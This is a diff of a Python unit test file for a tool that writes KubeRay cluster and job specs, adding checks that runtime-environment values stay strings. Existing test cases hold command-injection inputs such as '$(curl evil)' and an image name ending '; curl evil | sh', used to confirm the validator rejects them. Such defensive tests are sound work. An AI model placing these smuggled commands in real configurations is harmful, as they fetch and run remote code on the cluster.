@@ -7,6 +7,7 @@ from hypothesis import strategies as st
 
 from tests.unit.kuberay.designed_clusters import TRIALS, a_design, cpu_type, filled_in, gpu_type, spec
 from tune_policies import InvalidResourcesError
+from tune_policies.files.yaml_documents import read_documents
 from tune_policies.kuberay.design.cluster_spec import DesignedGroup
 from tune_policies.kuberay.writing import WriteOptions, write_cluster
 
@@ -201,6 +202,16 @@ def test_the_runtime_environment_of_a_job_is_written():
     assert yaml.safe_load(job["runtimeEnvYAML"]) == environment
 
 
+def test_kubernetes_reads_the_texts_of_a_runtime_environment_as_texts():
+    environment = {"env_vars": {"RATE": "1e-3", "MODE": "0o644", "ANSWER": "y"}, "pip": ["torch"]}
+
+    job = spec(a_design(), job="python train.py", runtime_env=environment)
+
+    (document,) = read_documents(job["runtimeEnvYAML"], "job.yaml")
+    assert document.data == environment
+    assert 'ANSWER: "y"' in job["runtimeEnvYAML"]  # for some readers, y is true
+
+
 def test_the_namespace_is_optional():
     written = [
         yaml.safe_load(write_cluster(a_design(), WriteOptions(namespace=namespace)))["metadata"]
@@ -324,6 +335,10 @@ def test_slices_of_several_hosts_must_be_whole_and_require_kubernetes(form, mess
         ({"job": "x", "runtime_env": {"py_modules": ["my_module"]}}, "'my_module', which the cluster cannot read"),
         ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell interprets"),
         ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell interprets"),
+        (
+            {"job": "x", "runtime_env": {"env_vars": {"A": 5}}},
+            "A in runtime_env is 5, but Ray requires a string",
+        ),
         ({"image": ""}, "image"),
         ({"image": "me/ray:1; curl evil | sh"}, "is not a container image"),
         ({"image": "me/ray:1\n"}, "is not a container image"),
